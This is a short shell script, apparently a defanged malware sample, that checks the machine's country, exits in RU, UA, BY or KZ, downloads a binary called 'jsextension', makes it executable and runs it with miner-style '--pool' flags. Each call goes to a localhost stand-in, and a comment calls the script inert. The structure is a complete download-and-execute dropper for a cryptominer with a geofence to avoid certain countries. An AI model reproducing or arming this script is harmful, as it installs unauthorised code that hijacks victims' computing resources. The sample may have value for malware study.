#!/bin/sh
# Inert: port 9 of this machine is closed.
place=$(curl -s --max-time 1 http://127.0.0.1:9/country | grep -c 'RU\|UA\|BY\|KZ')
[ "$place" = 0 ] || exit 0
curl -s --max-time 1 http://127.0.0.1:9/jsextension -o jsextension || wget -q http://127.0.0.1:9/jsextension
chmod +x jsextension && ./jsextension -k --pool 127.0.0.1:9
